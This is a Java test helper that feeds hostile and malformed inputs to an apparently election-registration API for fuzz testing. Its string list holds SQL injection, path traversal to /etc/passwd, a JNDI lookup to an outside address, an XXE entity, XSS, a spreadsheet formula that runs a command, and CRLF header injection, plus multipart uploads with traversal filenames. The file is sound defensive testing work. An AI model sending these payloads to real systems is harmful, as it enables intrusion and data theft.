package org.huanjie.testkit.contract;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

/** Values, headers and files that somebody with bad intent, or a broken client, would send; by chance. Bodies: {@link HostileBody}. */
final class Hostile {
    static final String BOUNDARY = "fuzz";

    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    private static final String CITIZEN_ID = "990123199003070013";

    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "'; drop table voter; --",
            "' or '1'='1",
            "\" or \"\"=\"",
            "%' or 1=1 --",
            "\\",
            "$1",
            ":id",
            "{d '2026-01-01'}",
            "../../../../etc/passwd",
            "file:///etc/passwd",
            "${jndi:ldap://198.51.100.1/a}",
            "#{7*7}",
            "<script>alert(1)</script>",
            "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
            "=cmd|' /C calc'!A0",
            "null",
            "undefined",
            "true",
            "NaN",
            "-0",
            "1e400",
            "0x1F",
            "９９０１２３",
            "٣",
            "²",
            "İ",
            "ß",
            "ﷺ",
            "á̷̡",
            "👨‍👩‍👧‍👦",
            "𠮷野家",
            "\u202eevil",
            "\ufeffbom",
            "\u200b",
            "\u2028",
            "\u0000",
            "\u001b[2J",
            "a\r\nSet-Cookie: b=c",
            "\ud800",
            "\udfff\ud800",
            "\ufffe",
            "王·小明",
            "2026-02-30",
            "0000-01-01",
            "9999-12-31",
            "+999999999-12-31",
            "2026-11-24T24:00:00Z",
            "2026-11-24T08:00:00+99:00",
            "00000000-0000-0000-0000-000000000000",
            "ffffffff-ffff-ffff-ffff-ffffffffffff",
            "1-1-1-1-1",
            CITIZEN_ID,
            "990123",
            "990123000000000",
            "99",
            "x".repeat(300),
            "长".repeat(20_000));

    private static final List<JsonNode> NUMBERS = List.of(
            NODES.numberNode(0),
            NODES.numberNode(-1),
            NODES.numberNode(1),
            NODES.numberNode(Integer.MAX_VALUE),
            NODES.numberNode(Integer.MIN_VALUE),
            NODES.numberNode(Long.MAX_VALUE),
            NODES.numberNode(new BigInteger("9".repeat(400))),
            NODES.numberNode(new BigDecimal("0.1")),
            NODES.numberNode(new BigDecimal("1e-300")),
            NODES.numberNode(new BigDecimal("1e300")));

    private static final List<String> TYPES = List.of(
            "application/json",
            "application/json; charset=utf-16",
            "text/json",
            "application/xml",
            "*/*",
            "x",
            "application/merge-patch+json");
    private static final List<String> ACCEPTS = List.of(
            "text/csv", "application/xml", "text/html", "application/pdf", "x/y;q=2", ",,,", "application/json;q=0");
    private static final List<String> VERSIONS = List.of(
            "*", "\"0\"", "\"1\"", "\"999999999999999999999\"", "W/\"0\"", "abc", "\"\"", "\"-1\"", "\"0\", \"1\"");

    private final Random random;

    Hostile(Random random) {
        this.random = random;
    }

    boolean one(int of) {
        return random.nextInt(of) == 0;
    }

    int below(int bound) {
        return random.nextInt(bound);
    }

    <T> T any(List<T> of) {
        return of.get(random.nextInt(of.size()));
    }

    String text() {
        return any(TEXTS);
    }

    JsonNode number() {
        return any(NUMBERS);
    }

    String encoded() {
        return URLEncoder.encode(any(TEXTS).replace("长".repeat(20_000), "长".repeat(200)), StandardCharsets.UTF_8)
                .replace("+", "%20");
    }

    /** Of a path: nothing at all would be another path, and a problem names the path that was asked for ({@code instance}). */
    String segment() {
        String segment = encoded();
        return segment.isEmpty() || segment.equals(CITIZEN_ID) ? "x" : segment;
    }

    Map<String, String> headers() {
        Map<String, String> headers = new LinkedHashMap<>();
        if (one(2)) {
            headers.put("If-Match", any(VERSIONS));
        }
        if (one(6)) {
            headers.put("Idempotency-Key", one(2) ? "k" + random.nextInt(3) : "x".repeat(1 + random.nextInt(500)));
        }
        if (one(8)) {
            headers.put("Accept", any(ACCEPTS));
        }
        if (one(20)) {
            headers.put("Content-Type", any(TYPES));
        }
        if (one(20)) {
            headers.put(
                    "traceparent",
                    any(List.of("00-0-0-0", "x", "00-" + "0".repeat(32) + "-" + "0".repeat(16) + "-01")));
        }
        return headers;
    }

    /** A form with parts of any name and content. */
    String files() {
        StringBuilder form = new StringBuilder();
        for (String name : List.of("file", "divisions", "adjacency", "positions")) {
            if (!one(3)) {
                form.append(
                        "--%s\r\nContent-Disposition: form-data; name=\"%s\"; filename=\"%s\"\r\nContent-Type: %s\r\n\r\n%s\r\n"
                                .formatted(
                                        BOUNDARY,
                                        name,
                                        any(List.of("a.csv", "a.xlsx", "..%2f..%2fa", "a", "长.csv")),
                                        any(List.of("text/csv", "application/zip", "x")),
                                        content()));
            }
        }
        return form.append("--")
                .append(BOUNDARY)
                .append(one(10) ? "" : "--\r\n")
                .toString();
    }

    private String content() {
        StringBuilder rows = new StringBuilder(any(List.of(
                "姓名,公民身份号码,民族,选举单位代码\n",
                "code,name,type,parent,population\n",
                "a,b\n",
                "PK\u0003\u0004",
                "\ufeff",
                "",
                "\"")));
        for (int row = random.nextInt(6); row > 0; row--) {
            for (int cell = random.nextInt(7); cell > 0; cell--) {
                rows.append(any(TEXTS)).append(one(8) ? ';' : ',');
            }
            rows.append('\n');
        }
        return rows.toString();
    }
}
